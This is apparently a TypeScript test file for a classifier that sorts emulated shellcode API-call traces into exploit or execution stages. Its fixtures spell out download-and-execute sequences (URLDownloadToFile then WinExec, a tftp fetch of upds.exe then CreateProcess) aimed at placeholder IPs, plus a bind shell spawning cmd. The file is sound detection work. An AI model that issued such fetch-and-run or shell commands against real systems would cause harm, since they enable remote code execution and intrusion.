import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classifyEmuProfile } from './emu-profile.js';

const call = (name: string, ...args: unknown[]): object => ({ call: name, args, return: '0' });

test('URLDownloadToFile followed by WinExec is an execution with the URL', () => {
  const p = JSON.stringify([call('LoadLibraryA', 'urlmon'), call('URLDownloadToFile', '', 'http://198.51.100.7/x.exe', '54.scr', '0', '0'), call('WinExec', '54.scr', '895')]);
  assert.deepEqual(classifyEmuProfile(p), { stage: 'execution', url: 'http://198.51.100.7/x.exe' });
});

test('tftp command line then CreateProcess of the file is an execution with a tftp URL', () => {
  const p = [call('CreateProcess', '', 'tftp.exe -i 203.0.113.9 get upds.exe', ''), call('CreateProcess', '', 'upds.exe', ''), call('ExitThread', '0')];
  assert.deepEqual(classifyEmuProfile(p), { stage: 'execution', url: 'tftp://203.0.113.9/upds.exe' });
});

test('a download without a following process start is only an exploit', () => {
  const p = [call('URLDownloadToFileA', '', 'http://198.51.100.7/x.exe', 'x.exe'), call('ExitProcess', '0')];
  assert.deepEqual(classifyEmuProfile(p), { stage: 'exploit', url: 'http://198.51.100.7/x.exe' });
});

test('a bind shell that starts cmd is an execution; speakeasy api_name with module prefix works', () => {
  const p = [{ api_name: 'ws2_32.bind' }, { api_name: 'ws2_32.listen' }, { api_name: 'ws2_32.accept' }, { api_name: 'kernel32.CreateProcessA', args: ['', 'cmd'] }];
  assert.deepEqual(classifyEmuProfile(p), { stage: 'execution', url: null });
});

test('a process start without download or shell is an exploit', () => {
  assert.deepEqual(classifyEmuProfile([call('WinExec', 'calc.exe')]), { stage: 'exploit', url: null });
});

test('broken profiles give a reason', () => {
  assert.match(classifyEmuProfile('[{"call": "WinExec",') as string, /not JSON/);
  assert.match(classifyEmuProfile('{"call":"WinExec"}') as string, /not a JSON array/);
  assert.match(classifyEmuProfile([42]) as string, /not an object/);
  assert.match(classifyEmuProfile([{ args: [] }]) as string, /no call name/);
  assert.match(classifyEmuProfile('['.padEnd(2 * 1024 * 1024, ' ')) as string, /too large/);
});
